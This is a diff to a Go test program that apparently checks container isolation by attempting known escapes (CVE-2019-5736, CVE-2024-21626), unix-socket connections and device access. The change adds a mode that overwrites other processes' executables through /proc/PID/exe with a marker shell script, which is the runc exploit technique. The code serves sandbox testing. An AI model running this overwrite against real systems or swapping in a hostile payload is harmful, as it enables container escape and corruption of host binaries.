@@ -3,7 +3,7 @@
 // that the attack ran and what it reached. It never stops at the first
 // failure: every step is tried.
 //
-//	attack exe DURATION              CVE-2019-5736: open other processes' /proc/PID/exe for writing
+//	attack exe DURATION [overwrite]  CVE-2019-5736: open other processes' /proc/PID/exe for writing (and overwrite those not busybox's)
 //	attack fds MARKER                CVE-2024-21626: walk up from every open fd and the cwd looking for MARKER
 //	attack unix LISTFILE             connect to every unix socket in LISTFILE (paths; @abstract names)
 //	attack kernel MAJOR:MINOR TOKEN  raw devices and kernel interfaces of a privileged guest
@@ -37,7 +37,7 @@ func main() {
 	}
 	switch os.Args[1] {
 	case "exe":
-		exe(duration(os.Args[2]))
+		exe(duration(os.Args[2]), len(os.Args) > 3 && os.Args[3] == "overwrite")
 	case "fds":
 		fds(os.Args[2])
 	case "unix":
@@ -69,8 +69,10 @@ func duration(s string) time.Duration {
 
 // exe opens every other process's executable through /proc/PID/exe and
 // tries to truncate and overwrite it, as the runc exploit did with the
-// runtime's binary entering the container, for d.
-func exe(d time.Duration) {
+// runtime's binary entering the container, for d. With overwrite, an
+// executable that is not busybox's (which the test's own execs need) nor
+// the attacker's is overwritten with a script, as the exploit did to runc.
+func exe(d time.Duration, overwrite bool) {
 	self := os.Getpid()
 	seen := map[string]bool{}
 	scanned, writable := 0, 0
@@ -106,9 +108,13 @@ func exe(d time.Duration) {
 				say("EXE-WRITE-OPEN", pid, target, err)
 				continue
 			}
-			w.Close()
 			writable++
 			say("EXE-WRITABLE-FD", pid, target)
+			if overwrite && !strings.Contains(target, "busybox") && !strings.Contains(target, "attack") {
+				_, err := w.Write([]byte("#!/bin/sh\necho gvx-exe-overwritten\n"))
+				say("EXE-OVERWRITE", pid, target, err)
+			}
+			w.Close()
 		}
 	}
 	say("EXE-SCANNED", scanned)
